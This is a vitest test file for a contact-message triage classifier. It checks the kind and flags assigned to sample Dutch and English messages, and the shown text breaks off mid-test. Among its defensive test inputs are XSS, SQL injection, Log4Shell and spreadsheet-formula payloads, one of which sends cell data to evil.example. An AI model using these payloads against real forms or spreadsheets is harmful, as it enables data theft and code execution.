import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { RULES, TRIAGE_WORDS } from '../../shared/domain/triage-rules.ts';
import { SPAM } from '../../shared/domain/triage-words.ts';
import { TRIAGE_FLAGS, type TriageFlag } from '../../shared/domain/flags.ts';
import { triageOf } from '../../shared/domain/triage.ts';
import { queueOf } from '../../shared/domain/vocabulary.ts';

type Case = readonly [declared: string, kind: string, language: 'nl' | 'en', subject: string, message: string, flags: readonly TriageFlag[]];

/** Messages with the kind that their sender chose and the one that they are. */
const CASES: readonly Case[] = [
  ['other', 'join-cop', 'en', 'Hello', 'We operate two gas terminals. How can our control engineers become members of the community?', []],
  ['other', 'join-cop', 'nl', 'Vraag', 'Hoe kan ons ingenieursbureau lid worden en wat kost het lidmaatschap?', []],
  ['expert-session', 'join-cop', 'en', 'Membership', 'I want to join the community as a member, what is the membership fee?', []],
  ['other', 'join-cop', 'nl', 'aansluiten', 'Als gemeente met veel gemalen willen wij ons aansluiten bij de community. Wat wordt er van leden verwacht?', []],
  ['share-info', 'join-cop', 'en', 'Taking part', 'Could our port authority take part in the community of practice?', []],
  ['other', 'newsletter', 'nl', 'nieuwsbrief', 'Kunt u mij toevoegen aan de verzendlijst van de nieuwsbrief?', []],
  ['other', 'newsletter', 'en', 'Newsletter', 'Please sign me up for your OT newsletter.', []],
  ['other', 'newsletter', 'nl', 'afmelden', 'Ik wil de nieuwsbrief niet meer ontvangen.', ['unsubscribe']],
  ['newsletter', 'newsletter', 'en', 'stop', 'Please stop sending me these mails. This is the third time I ask.', ['unsubscribe', 'repeat']],
  ['privacy', 'newsletter', 'nl', 'Uitschrijven', 'Graag uitschrijven van de nieuwsbrief.', ['unsubscribe']],
  [
    'other',
    'newsletter',
    'nl',
    'weer',
    'Ik heb al twee keer gevraagd om mij van de lijst te halen en krijg nog steeds nieuwsbrieven. Haal mij van de verzendlijst.',
    ['unsubscribe', 'repeat'],
  ],
  ['other', 'share-info', 'en', 'New guide', 'We published a free guide on asset inventories for small utilities. Could you share it with your members?', []],
  ['other', 'share-info', 'nl', 'Symposium', 'Op 9 oktober organiseren wij een symposium over veilige bruggen. Kan het op de agenda?', []],
  ['newsletter', 'share-info', 'nl', 'Artikel', 'Ons artikel over netwerksegmentatie is verschenen. Kan dit in de nieuwsbrief?', []],
  ['other', 'share-info', 'en', 'Webinar announcement', 'Would you announce our webinar on IEC 62443 in the calendar?', []],
  ['innovation', 'share-info', 'en', 'Report', 'Our research report on OT incidents in the Benelux is out. Is that something for the knowledge platform?', []],
  ['other', 'innovation', 'en', 'Eligible?', 'We are a start-up building a data diode for water boards at TRL 5. Are we eligible for the open call?', []],
  [
    'other',
    'innovation',
    'nl',
    'Past dit?',
    'Onze oplossing controleert firmware van regelaars. Valt dat binnen de scope en welk formulier moeten wij gebruiken?',
    [],
  ],
  ['demand', 'innovation', 'en', 'Our product', 'We have developed a protocol filter for substations. How do we submit it to the challenge?', []],
  ['other', 'innovation', 'nl', 'challenge', 'Wij ontwikkelen software die PLC-code vergelijkt. Hoe kunnen wij onze innovatie indienen?', []],
  ['other', 'innovation', 'en', 'IP', 'Who owns the intellectual property of our prototype if you support us?', []],
  [
    'other',
    'demand',
    'en',
    'Remote access',
    'Our dairy has fourteen vendors that each use another VPN. Which start-ups offer a single way in?',
    ['asset-owner'],
  ],
  [
    'other',
    'demand',
    'nl',
    'Wie kan helpen',
    'Onze bruggen draaien op verouderde besturingen die niet te patchen zijn. Welke partijen hebben hiervoor een oplossing?',
    ['asset-owner'],
  ],
  [
    'innovation',
    'demand',
    'en',
    'Looking for tools',
    'We run a paper mill and have no overview of our PLCs. We are looking for a tool that finds them passively.',
    ['asset-owner'],
  ],
  ['other', 'demand', 'nl', 'zoekvraag', 'Wij zoeken een oplossing voor het bewaken van onze rioolgemalen. Kent u een leverancier?', ['asset-owner']],
  [
    'join-cop',
    'demand',
    'en',
    'problem with logging',
    'Our substations do not log who changes settings. Is there a vendor in your network that solves this problem?',
    ['asset-owner'],
  ],
  [
    'other',
    'demand',
    'nl',
    'best practice gevraagd',
    'Hoe lossen andere drinkwaterbedrijven het beheer van gedeelde accounts op? Wij worstelen ermee in onze zuivering.',
    ['asset-owner'],
  ],
  ['other', 'expert-session', 'en', 'Next session', 'Can I attend the next expert session with a colleague?', []],
  ['other', 'expert-session', 'nl', 'Aanmelden sessie', 'Ik wil mij aanmelden voor de sessie over OT-monitoring op 12 maart.', []],
  ['share-info', 'expert-session', 'en', 'Speaker', 'I could give a talk about recovering a plant from ransomware, TLP:AMBER.', ['tlp-amber']],
  ['other', 'expert-session', 'nl', 'lezing', 'Onze procesingenieur wil een lezing geven over veilige bediening op afstand.', []],
  ['join-cop', 'expert-session', 'nl', 'bijwonen', 'Mag ik als student de volgende kennissessie bijwonen?', ['student']],
  ['other', 'expert-session', 'nl', 'verhinderd', 'Ik kan helaas niet bij de sessie van donderdag zijn, kunt u mij afmelden?', []],
  [
    'other',
    'international',
    'en',
    'Visit from Estonia',
    'A delegation of Estonian companies visits the Netherlands in June and would like to meet your community.',
    [],
  ],
  ['join-cop', 'international', 'en', 'Soft landing', 'We are the trade office of Ontario and look for soft landing programmes for our OT security firms.', []],
  ['other', 'international', 'nl', 'Handelsmissie', 'Voor een handelsmissie naar Japan zoeken wij Nederlandse partners in OT-beveiliging.', []],
  [
    'expert-session',
    'international',
    'en',
    'Partner programme',
    'Our innovation agency in Singapore proposes an international collaboration between both communities.',
    [],
  ],
  ['other', 'test-facility', 'en', 'Pilot site wanted', 'Our passive sensor runs at three breweries. We look for a water utility as pilot site.', ['lead']],
  ['demand', 'test-facility', 'nl', 'Testlocatie', 'Onze gateway is klaar. Waar kunnen wij deze in een realistische omgeving testen?', []],
  ['other', 'test-facility', 'nl', 'Proeftuin beschikbaar', 'Wij bieden een buiten gebruik gestelde zuivering aan als proeftuin voor start-ups.', []],
  ['share-info', 'test-facility', 'en', 'Test lab', 'Do you know a test lab with real PLCs where we can test our product?', []],
  [
    'other',
    'press',
    'en',
    'Question from a reporter',
    'I am a reporter at a daily newspaper and would like a comment of the chair on the new law. Deadline tomorrow noon.',
    ['press-deadline'],
  ],
  ['other', 'press', 'nl', 'Interview', 'Ik ben journalist en schrijf een artikel over sluizen en hackers. Kan ik uw voorzitter spreken?', []],
  [
    'expert-session',
    'press',
    'nl',
    'Radio',
    'Voor ons radioprogramma zoeken wij vanmiddag een deskundige over OT-beveiliging. Wie kan ik bellen?',
    ['press-deadline'],
  ],
  ['share-info', 'press', 'en', 'Documentary', 'We are making a documentary about critical infrastructure and would like to interview your chair.', []],
  ['other', 'status', 'en', 'OT-26-7K3FW-X', 'Is there any news about our proposal? We have not heard since May.', ['has-reference']],
  ['innovation', 'status', 'nl', 'Stand van zaken', 'Hoe staat het met ons voorstel? Wij hebben het in april ingediend en nog niets gehoord.', []],
  ['other', 'status', 'nl', 'Wanneer?', 'Wanneer kunnen wij een besluit verwachten over onze inzending OT-2025-0031?', ['has-reference']],
  ['innovation', 'status', 'en', 'Our submission', 'How long does the review of our submission take? Our investors ask where we stand.', []],
  ['other', 'feedback-appeal', 'en', 'Rejection', 'We do not agree with the rejection of our proposal and ask for reconsideration.', []],
  [
    'status',
    'feedback-appeal',
    'nl',
    'Bezwaar',
    'Wij zijn het niet eens met het besluit en willen bezwaar maken. De beoordelaar heeft bijlage 2 over het hoofd gezien.',
    [],
  ],
  ['innovation', 'feedback-appeal', 'en', 'Feedback report', 'Could you explain why our proposal was declined? The feedback report contradicts itself.', []],
  ['other', 'feedback-appeal', 'nl', 'Heroverweging', 'Graag vragen wij een heroverweging aan van de afwijzing van OT-26-3M8QK-4.', ['has-reference']],
  ['other', 'privacy', 'en', 'My data', 'Under the GDPR I request a copy of all personal data that you hold about me.', ['legal-1-month']],
  ['newsletter', 'privacy', 'nl', 'Gegevens verwijderen', 'Wilt u al mijn persoonsgegevens verwijderen?', ['legal-1-month']],
  ['other', 'privacy', 'nl', 'AVG', 'Welke gegevens bewaart u van mij en aan wie heeft u die verstrekt?', ['legal-1-month']],
  [
    'feedback-appeal',
    'privacy',
    'en',
    'Right of access',
    'I want access to my personal data including the notes of reviewers, article 15 GDPR.',
    ['legal-1-month'],
  ],
  ['other', 'other', 'en', 'Great offer', 'Dear friend, guaranteed first page of Google, cheap backlinks, reply now!', ['spam']],
  ['share-info', 'other', 'nl', 'Zonnepanelen', 'Beste ondernemer, nu 40% korting op zonnepanelen voor uw bedrijf. Klik hier!', ['spam']],
  ['innovation', 'other', 'en', 'Proposal', '<img src=x onerror=alert(1)> please open', ['malicious-input']],
  ['other', 'other', 'en', 'sheet', '=WEBSERVICE("http://evil.example/?x="&A1)', ['malicious-input']],
  ['other', 'other', 'nl', 'Stageplek', 'Ik studeer cybersecurity in Leiden en zoek een stageplek bij een waterschap.', ['student', 'talent']],
  [
    'expert-session',
    'other',
    'en',
    'Thesis',
    'I am looking for a bachelor thesis topic in OT security. Do your members offer positions?',
    ['student', 'talent'],
  ],
  ['other', 'other', 'en', 'Parking', 'Is there parking near your office?', []],
  ['other', 'other', 'nl', 'Telefoonnummer', 'Op welk nummer kan ik u op vrijdag bereiken?', []],
  ['other', 'other', 'nl', 'Bedankt', 'Hartelijk dank voor uw hulp van vorige week.', []],
  ['other', 'incident', 'nl', 'Help', 'Onze SCADA-servers zijn versleuteld en er staat een losgeldbrief op het scherm.', ['phone-now', 'no-details-in-mail']],
  ['newsletter', 'incident', 'en', 'Newsletter', 'We were hacked this morning and our HMIs show a ransom note.', ['phone-now', 'no-details-in-mail']],
  ['other', 'vulnerability', 'en', 'Open panel', 'I found the HMI of a pumping station on Shodan without password at 203.0.113.9.', ['cvd', 'do-not-store-ip']],
  [
    'innovation',
    'vulnerability',
    'nl',
    'Zero-day',
    'Ik heb een zero-day in een PLC gevonden en wil eerst 2 bitcoin voordat ik de details deel.',
    ['cvd', 'extortion'],
  ],
  ['status', 'vulnerability', 'en', 'Disclosure', 'I would like to report a vulnerability in a safety controller.', ['cvd']],
  ['join-cop', 'join-cop', 'en', 'Interested', 'Our consultancy works for refineries and would be happy to contribute. What are the next steps?', []],
  ['join-cop', 'join-cop', 'nl', 'Deelname', 'Wij zijn fabrikant van pompen en vragen ons af of leveranciers ook welkom zijn.', []],
  ['other', 'join-cop', 'en', 'Question', 'Is the community open to vendors, and are there costs for members?', []],
  ['newsletter', 'join-cop', 'nl', 'Lid', 'Ik wil geen nieuwsbrief maar lid worden van de community.', []],
  ['newsletter', 'newsletter', 'en', 'OT', 'me too please', []],
  ['other', 'newsletter', 'en', 'mailing list', 'Can you put our security team on the mailing list?', []],
  ['other', 'newsletter', 'nl', 'aanmelding nieuwsbrief', 'Bij dezen meld ik mij aan voor de nieuwsbrief.', []],
  ['share-info', 'newsletter', 'en', 'Opt-out', 'I want to opt out from the monthly newsletter.', ['unsubscribe']],
  [
    'other',
    'newsletter',
    'nl',
    'Geen mails meer',
    'Kunt u ophouden met het sturen van deze mails? Ik heb dit vorige maand ook al gevraagd.',
    ['unsubscribe', 'repeat'],
  ],
  ['other', 'newsletter', 'en', 'Still on the list', 'You still send me the newsletter although I unsubscribed in March.', ['unsubscribe', 'repeat']],
  ['share-info', 'share-info', 'nl', 'Podcast', 'Wij hebben een podcast over de beveiliging van bruggen gemaakt. Hier is de link.', []],
  ['other', 'share-info', 'en', 'Conference in Delft', 'Please mention our conference on secure water systems on 2 June to your members.', []],
  [
    'other',
    'share-info',
    'nl',
    'Handreiking',
    'De handreiking voor leveranciersbeheer is klaar en gratis te downloaden. Willen jullie die op het kennisplatform zetten?',
    [],
  ],
  ['expert-session', 'share-info', 'en', 'Our event', 'We organise a free online event about OT asset management. Could you publish it on your website?', []],
  ['innovation', 'innovation', 'en', 'Funding', 'Do you pay for the pilots, or does the start-up?', []],
  ['other', 'innovation', 'nl', 'TRL', 'Vanaf welke TRL mogen wij een voorstel indienen voor onze sensor?', []],
  ['test-facility', 'innovation', 'en', 'Scope', 'Is our cloud service for PLC backups in scope of the challenge, and can we apply as a foreign company?', []],
  ['share-info', 'innovation', 'nl', 'Ons idee', 'Wij hebben een idee voor een veilige noodstop. Past dat in de open oproep en hoe dienen wij het in?', []],
  ['demand', 'demand', 'en', 'Patching', 'How can one patch a DCS without a stop?', []],
  ['other', 'demand', 'en', 'Need advice', 'Our port terminal struggles with USB sticks of crane technicians. Who has a proven solution?', ['asset-owner']],
  [
    'innovation',
    'demand',
    'nl',
    'Vraagstuk van een waterschap',
    'Wij missen inzicht in wie er op onze gemalen inlogt. Welke start-ups hebben hier iets voor?',
    ['asset-owner'],
  ],
  ['other', 'demand', 'nl', 'hulp', 'Onze ziekenhuisinstallaties zijn verouderd en kwetsbaar. Kunt u een partij aanbevelen?', ['asset-owner']],
  [
    'share-info',
    'demand',
    'en',
    'Question from a grid operator',
    'We need a way to check relay settings in 900 substations. Which vendors in your network do this?',
    ['asset-owner'],
  ],
  ['expert-session', 'expert-session', 'nl', 'Programma', 'Hoe laat begint het en is er parkeergelegenheid?', []],
  ['other', 'expert-session', 'en', 'Guest speaker', 'Our head of operations is willing to speak about segmentation in practice. Do you have a slot?', []],
  ['innovation', 'expert-session', 'nl', 'presentatie', 'Wij willen onze resultaten presenteren op een van uw sessies. Is er nog plek in het najaar?', []],
  ['other', 'expert-session', 'en', 'Waiting list', 'Is the session of 4 June full? Please put me on the waiting list.', []],
  ['press', 'expert-session', 'en', 'Recording', 'Will there be a recording of the expert session on remote access?', []],
  ['other', 'international', 'nl', 'Ambassade', 'De Finse ambassade zoekt contact voor een bezoek van vier bedrijven in oktober.', []],
  ['international', 'international', 'en', 'Ontario again', 'Following up on the programme: could Tuesday work as well?', []],
  [
    'demand',
    'international',
    'en',
    'Cooperation',
    'We coordinate a cluster of OT security companies in Flanders and propose to cooperate across the border.',
    [],
  ],
  ['other', 'test-facility', 'en', 'Pilot', 'Which plant would host a three month trial of our monitoring appliance? Two factories already use it.', ['lead']],
  [
    'innovation',
    'test-facility',
    'nl',
    'Praktijkproef',
    'Ons product draait bij een zuivelfabriek en wij zoeken een waterschap voor een praktijkproef.',
    ['lead'],
  ],
  ['other', 'test-facility', 'nl', 'Testopstelling', "Onze hogeschool heeft een testopstelling met echte PLC's die start-ups mogen gebruiken.", []],
  ['press', 'press', 'en', 'Quote', 'Could the chair give a quote on NIS2 before tonight?', ['press-deadline']],
  ['other', 'press', 'nl', 'Vraag van de krant', 'Ik werk voor een landelijk dagblad en wil graag weten hoeveel bedrijven bij u zijn aangesloten.', []],
  ['demand', 'press', 'en', 'TV item', 'We are a television programme and look for a plant where we can film. Who is your spokesperson?', []],
  ['status', 'status', 'en', 'Any news?', 'We are still waiting.', []],
  ['other', 'status', 'nl', 'Voorstel', 'Is er al een uitslag van de beoordeling van onze aanvraag?', []],
  ['feedback-appeal', 'status', 'en', 'Decision date', 'When will we hear the decision on our proposal? It has been nine weeks.', []],
  ['press', 'status', 'nl', 'OT-26-7K3FW-X', 'Kunt u aangeven hoe ver u bent met onze inzending?', ['has-reference']],
  ['feedback-appeal', 'feedback-appeal', 'nl', 'Vraag over de score', 'Wat betekent een 3 bij veiligheid?', []],
  ['other', 'feedback-appeal', 'en', 'Unfair', 'The outcome is unfair: the reviewer did not read our annex. We want somebody else to look at it again.', []],
  ['status', 'feedback-appeal', 'en', 'Appeal', 'We were rejected last week and want to appeal.', []],
  ['other', 'feedback-appeal', 'nl', 'Toelichting', 'Kunt u toelichten waarom ons voorstel is afgewezen?', []],
  ['privacy', 'privacy', 'nl', 'Correctie', 'Mijn naam staat verkeerd in uw systeem.', ['legal-1-month']],
  ['join-cop', 'privacy', 'en', 'Delete account', 'Please delete my account and all my data.', ['legal-1-month']],
  ['other', 'privacy', 'en', 'Second request', 'I asked you a month ago what personal data you store about me and got no answer.', ['legal-1-month', 'repeat']],
  ['demand', 'other', 'en', 'Loans', 'Get a business loan today, no questions, lowest interest guaranteed!!!', ['spam']],
  ['other', 'other', 'nl', 'Website', 'Wij zetten uw website bovenaan in Google, nu met 50% korting.', ['spam']],
  ['other', 'other', 'en', 'Crypto', 'Invest in crypto trading now and double your money, contact us on WhatsApp.', ['spam']],
  ['join-cop', 'other', 'en', 'x', "'; DROP TABLE contacts; --", ['malicious-input']],
  ['other', 'other', 'nl', 'rekening', "=cmd|'/c calc'!A1", ['malicious-input']],
  ['join-cop', 'other', 'nl', 'Baan gezocht', 'Ik zoek een baan als OT-beveiliger in Zuid-Holland, mijn cv is bijgevoegd.', ['talent']],
  ['demand', 'other', 'en', 'Graduation', 'I am a student in Twente looking for a graduation project on PLC honeypots.', ['student', 'talent']],
  ['other', 'other', 'nl', 'Stage', 'Heeft u of een van de leden een stage voor een hbo-student industriële automatisering?', ['student', 'talent']],
  ['other', 'other', 'en', 'Invoice', 'To which address may we send the invoice for the catering?', []],
  ['other', 'other', 'en', 'Wrong address', 'You sent me a letter for somebody else.', []],
  [
    'other',
    'incident',
    'en',
    'Please hurry',
    'Attackers are in our control network and pumps stop by themselves. Who can come today?',
    ['phone-now', 'no-details-in-mail'],
  ],
  [
    'demand',
    'incident',
    'nl',
    'dringend',
    "Wij zoeken een oplossing want sinds vannacht zijn al onze HMI's vergrendeld door gijzelsoftware.",
    ['phone-now', 'no-details-in-mail'],
  ],
  ['share-info', 'vulnerability', 'nl', 'Tip', 'Via Shodan zag ik een brugbediening die zonder wachtwoord openstaat.', ['cvd']],
  ['press', 'vulnerability', 'en', 'For sale', 'Unpublished exploit for a PLC for sale, 10 BTC, no details before payment.', ['cvd', 'extortion']],
  ['other', 'join-cop', 'nl', 'Meedoen', 'Kunnen wij als machinebouwer meedoen met de community en wanneer is de volgende bijeenkomst?', []],
  ['innovation', 'join-cop', 'en', 'Becoming a member', 'What are the conditions for membership? We are a system integrator.', []],
  ['other', 'newsletter', 'en', 'OT news', 'I would love to get your newsletter at this address.', []],
  ['join-cop', 'newsletter', 'nl', 'nieuwsbrief', "Graag de nieuwsbrief voor mij en twee collega's.", []],
  ['other', 'newsletter', 'en', 'REMOVE', 'Take me off your list. Second request!', ['unsubscribe', 'repeat']],
  ['privacy', 'newsletter', 'en', 'unsubscribe', 'I do not want to receive the newsletter any longer.', ['unsubscribe']],
  ['other', 'share-info', 'nl', 'Blog', "Wij schreven een blog over het vervangen van oude HMI's. Willen jullie die delen?", []],
  ['press', 'share-info', 'en', 'Press release', 'Attached our press release on a new OT training centre. Could you include it in your newsletter?', []],
  ['expert-session', 'share-info', 'nl', 'Congres', 'Kan ons congres over waterveiligheid op uw agenda worden geplaatst?', []],
  ['other', 'innovation', 'en', 'Confidentiality', 'Do you sign an NDA before we send in our proposal for a new firewall?', []],
  ['status', 'innovation', 'nl', 'Vraag vooraf', 'Wij willen een voorstel indienen. Valt een dienst voor PLC-onderhoud binnen de scope?', []],
  ['demand', 'innovation', 'en', 'Call', 'Until when is the challenge open and may a university apply?', []],
  ['other', 'demand', 'en', 'Windows XP', 'Twelve of our HMIs run Windows XP and the supplier is gone. Who in your network can help us?', ['asset-owner']],
  [
    'test-facility',
    'demand',
    'nl',
    'Probleem',
    'Bij ons waterschap loggen monteurs in met een gedeeld account. Is er een partij die dit oplost?',
    ['asset-owner'],
  ],
  ['international', 'demand', 'en', 'Solution wanted', 'Our ferry terminal looks for a product to secure remote maintenance.', ['asset-owner']],
  ['other', 'expert-session', 'nl', 'Sessie', 'Is de expertsessie van april ook online te volgen?', []],
  ['join-cop', 'expert-session', 'en', 'Offer', 'I could hold a workshop about safe PLC programming at one of your sessions.', []],
  ['demand', 'expert-session', 'nl', 'spreker', 'Onze veiligheidskundige biedt zich aan als spreker over functionele veiligheid en beveiliging.', []],
  ['other', 'international', 'en', 'Trade mission', 'We prepare a trade mission to Denmark and look for Dutch OT companies.', []],
  ['share-info', 'international', 'nl', 'Delegatie', 'Een delegatie uit Zuid-Korea wil in september kennismaken met uw community.', []],
  ['other', 'test-facility', 'nl', 'Pilotlocatie', 'Wij zijn op zoek naar een pilotlocatie voor onze sensor voor bruggen.', ['lead']],
  ['innovation', 'test-facility', 'en', 'Where to test', 'Our box is ready and two customers use it. Is there a plant where we may run a pilot?', ['lead']],
  ['other', 'press', 'nl', 'Vakblad', 'Als redacteur van een vakblad wil ik graag een interview over uw werkwijze.', []],
  ['share-info', 'press', 'en', 'Journalist', 'I am a journalist and want to know how many incidents your members had this year.', []],
  ['other', 'status', 'en', 'Proposal', 'We sent our proposal in ten weeks ago and heard nothing since.', []],
  ['demand', 'status', 'nl', 'OT-2025-0044', 'Is er nieuws over onze aanvraag?', ['has-reference']],
  ['other', 'feedback-appeal', 'nl', 'niet mee eens', 'De beoordelaar heeft onze tests verkeerd begrepen. Wij vragen u het besluit te herzien.', []],
  ['innovation', 'feedback-appeal', 'en', 'Declined', 'Why was our proposal turned down while the scores were high?', []],
  ['other', 'privacy', 'nl', 'verzoek', 'Ik verzoek u mijn persoonsgegevens te wissen en dit te bevestigen.', ['legal-1-month']],
  ['status', 'privacy', 'en', 'Access request', 'Please send me a copy of the personal data you process about me.', ['legal-1-month']],
  ['other', 'other', 'en', 'Attendee list', 'Hello, we sell the attendee lists of industrial security fairs, best price, interested?', ['spam']],
  ['join-cop', 'other', 'en', 'Loan', 'Cheap loans for your business, guaranteed approval, click here.', ['spam']],
  ['share-info', 'other', 'en', 'doc', '<a href="javascript:alert(1)">our report</a>', ['malicious-input']],
  ['other', 'other', 'nl', 'Traineeship', 'Ik ben bijna afgestudeerd en zoek een traineeship in de industriële beveiliging.', ['student', 'talent']],
  ['other', 'other', 'en', 'Phone', 'Which number do I call on Friday?', []],
  [
    'newsletter',
    'newsletter',
    'nl',
    'Nieuwsbrief en sessie',
    'Graag ontvang ik de nieuwsbrief. Daarnaast wil ik mij aanmelden voor de expertsessie van mei.',
    ['several-intents'],
  ],
  ['status', 'status', 'en', 'Two things', 'Could you tell me the status of our proposal? Also, I want to attend the next session.', ['several-intents']],
  [
    'other',
    'demand',
    'nl',
    'Twee vragen',
    'Onze gemalen zijn verouderd: welke leverancier heeft een oplossing? Ook wil ik de nieuwsbrief ontvangen.',
    ['asset-owner', 'several-intents'],
  ],
];

const sorted = (flags: readonly string[]): string => [...flags].sort().join(' ');
const triaged = (kind: string, message: string, more: { subject?: string; language?: 'nl' | 'en'; organisation?: string } = {}) =>
  triageOf({ kind, subject: '', language: 'en', message, ...more });

describe('triage', () => {
  it('suggests the kind that a message is, whatever its sender chose', () => {
    const judged = CASES.map(([declared, kind, language, subject, message, flags]) => {
      const { kind: found, flags: foundFlags } = triageOf({ kind: declared, subject, message, language });
      const text = `${declared} | ${subject} | ${message}`;
      return {
        declared,
        kind,
        wrongKind: found === kind ? undefined : `${found}, not ${kind}: ${text}`,
        wrongFlags: sorted(foundFlags) === sorted(flags) ? undefined : `[${sorted(foundFlags)}], not [${sorted(flags)}]: ${text}`,
      };
    });
    const wrongKinds = judged.flatMap(({ wrongKind }) => wrongKind ?? []);
    const wrongFlags = judged.flatMap(({ wrongFlags: wrong }) => wrong ?? []);
    const share = (wrong: number) => `${judged.length - wrong}/${judged.length} (${Math.round((1000 * (judged.length - wrong)) / judged.length) / 10}%)`;
    console.log(`triage, own cases: kinds ${share(wrongKinds.length)}, flags ${share(wrongFlags.length)}`);
    expect(CASES.length).toBeGreaterThanOrEqual(60);
    expect(new Set(CASES.map(([, kind]) => kind)).size).toBe(15);
    expect(judged.filter(({ declared, kind }) => declared !== kind && declared !== 'other').length).toBeGreaterThan(20);
    expect({ wrongKinds, wrongFlags }).toEqual({ wrongKinds: [], wrongFlags: [] });
  });

  it('sorts the samples as expected', () => {
    /** Samples where the rules may differ from what is expected, each with what they say. */
    const ACCEPTED: readonly string[] = [];
    const file = join(process.env.SLUIS_DATA ?? '', 'contacts.synthetic.dev.jsonl');
    if (!process.env.SLUIS_DATA || !existsSync(file)) {
      console.log('triage, samples: skipped, SLUIS_DATA is not set');
      return;
    }
    type Sample = {
      id: string;
      language: 'nl' | 'en';
      declaredKind: string;
      subject: string;
      message: string;
      organisation: string;
      expected: { kind: string; queue: string; priority: string; flags: string[] };
    };
    const samples = readFileSync(file, 'utf8')
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as Sample);
    const misses = samples.flatMap(({ id, declaredKind, expected, ...text }) => {
      const found = triageOf({ ...text, kind: declaredKind });
      const words = (['kind', 'queue', 'priority'] as const).flatMap((name) =>
        found[name] === expected[name] ? [] : `${id}: ${name} ${found[name]}, not ${expected[name]}`,
      );
      return sorted(found.flags) === sorted(expected.flags) ? words : [...words, `${id}: flags [${sorted(found.flags)}], not [${sorted(expected.flags)}]`];
    });
    console.log(`triage, samples: ${samples.length} sorted, ${misses.length} misses${misses.map((miss) => `\n  ${miss}`).join('')}`);
    expect(misses).toEqual(ACCEPTED);
  });

  it('sends every kind to the queue that the vocabulary names', () => {
    for (const [declared, , language, subject, message] of CASES) {
      const { kind, queue } = triageOf({ kind: declared, subject, message, language });
      expect(queue).toBe(queueOf(kind));
    }
    expect(triaged('other', 'We have been hacked, our servers are encrypted.').queue).toBe('redirect');
  });

  it('puts wrong doors first and advertisements last', () => {
    expect(triaged('newsletter', 'We have been hacked, our servers are encrypted.').priority).toBe('urgent');
    expect(triaged('other', 'Guaranteed backlinks, best price, first page of Google!').priority).toBe('low');
    expect(triaged('other', 'Is there parking near your office?').priority).toBe('normal');
    expect(triaged('press', 'May I talk to the chair?').priority).toBe('high');
  });

  it('raises what was asked before and what the law wants soon', () => {
    expect(triaged('newsletter', 'Please add me to the newsletter.').priority).toBe('normal');
    expect(triaged('newsletter', 'Please add me to the newsletter. This is my second request.')).toMatchObject({ priority: 'high', flags: ['repeat'] });
    expect(triaged('newsletter', 'Please unsubscribe me.')).toMatchObject({ priority: 'high', flags: ['unsubscribe'] });
  });

  it('never takes back a wrong door that the sender chose', () => {
    expect(triaged('incident', 'May I attend the next session?')).toMatchObject({ kind: 'incident', queue: 'redirect', priority: 'urgent', why: ['declared'] });
    expect(triaged('vulnerability', 'Please add me to the newsletter.')).toMatchObject({ kind: 'vulnerability', flags: ['cvd'] });
    expect(triaged('incident', 'I found a vulnerability in a PLC.').kind).toBe('vulnerability');
  });

  it('keeps what the sender chose where the words say nothing', () => {
    for (const kind of [
      'join-cop',
      'newsletter',
      'share-info',
      'innovation',
      'demand',
      'expert-session',
      'international',
      'test-facility',
      'press',
      'status',
      'other',
    ])
      expect(triaged(kind, 'Could you call me back on Tuesday?')).toMatchObject({ kind, why: ['declared'] });
  });

  it('looks for an incident before anything else', () => {
    expect(triaged('privacy', 'Delete my data. And by the way: our SCADA servers are encrypted and there is a ransom note.').kind).toBe('incident');
    expect(triaged('other', '<script>x</script> our servers are encrypted and there is a ransom note').kind).toBe('incident');
    expect(triaged('other', 'Best price! Zero-day exploit for a PLC for sale, 5 BTC.').kind).toBe('vulnerability');
  });

  it('honours a right even in an odd message', () => {
    expect(triaged('other', '<script>x</script> Under the GDPR I ask you to erase my personal data.')).toMatchObject({
      kind: 'privacy',
      priority: 'high',
      flags: ['legal-1-month', 'malicious-input'],
    });
    expect(triaged('other', 'Best price, guaranteed, buy now! And unsubscribe me from your newsletter.').flags).toContain('unsubscribe');
  });

  it.each<[string, boolean]>([
    ['OT-26-7K3FW-X', true],
    ['ot-26-7k3fw-x', true],
    ['(OT-2025-0017)', true],
    ['CVE-2024-12345 and OT-26', false],
    ['IEC-62443-3', false],
    ['ROBOT-26-7K3FW-XY', false],
  ])('sees a reference in %j: %j', (text, seen) => {
    expect(triaged('status', `Any news on ${text}?`).flags.includes('has-reference')).toBe(seen);
  });

  it.each<[string, readonly TriageFlag[]]>([
    ['TLP:AMBER', ['tlp-amber']],
    ['TLP: amber', ['tlp-amber']],
    ['TLP:AMBER+STRICT', ['tlp-amber-strict']],
    ['tlp amber strict', ['tlp-amber-strict']],
    ['TLP\u200b:RED', ['tlp-red']],
    ['TLP:GREEN', []],
    ['an amber light', []],
  ])('sees the label in %j', (text, flags) => {
    expect(triaged('join-cop', `This is ${text}, please mind.`).flags).toEqual(flags);
  });

  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror="alert(1)">',
    '=HYPERLINK("http://x.example","y")',
    'a\n@WEBSERVICE("http://x.example")',
    '<a href="javascript:alert(1)">x</a>',
    '\u0024{jndi:ldap://x.example/a}',
    "x' or '1'='1",
    'invoice \u202efdp.exe',
    '{{7*7}}',
  ])('takes %j for an attempt, not for a message', (message) => {
    expect(triaged('innovation', message)).toMatchObject({ kind: 'other', priority: 'low', flags: ['malicious-input'] });
  });

  it.each(['a < b and c > d', 'Fail = open, see <page 3>', 'we = 3 people', 'Cc: colleague@example.org', 'our ratio is 3-4', 'javascript developers wanted'])(
    'takes %j for a message',
    (message) => {
      expect(triaged('innovation', message).flags).not.toContain('malicious-input');
    },
  );

  it('marks a deadline of the press that comes before an ordinary reply', () => {
    expect(triaged('press', 'I am a journalist, my deadline is tonight.').flags).toEqual(['press-deadline']);
    expect(triaged('press', 'I am a journalist, my deadline is next month.').flags).toEqual([]);
    expect(triaged('status', 'Can you tell me today?').flags).toEqual([]);
  });

  it('marks an address in a report, typed or only promised', () => {
    expect(triaged('other', 'I found an open HMI on the internet without password, 203.0.113.4.').flags).toEqual(['cvd', 'do-not-store-ip']);
    expect(triaged('other', 'I found an open HMI on the internet without password, I have the IP address.').flags).toEqual(['cvd', 'do-not-store-ip']);
    expect(triaged('other', 'I found an open HMI on the internet without password.').flags).toEqual(['cvd']);
    expect(triaged('incident', 'Our servers are encrypted by ransomware, look at 203.0.113.4.').flags).toEqual([
      'phone-now',
      'no-details-in-mail',
      'do-not-store-ip',
    ]);
  });

  it('knows an owner of assets by the organisation too', () => {
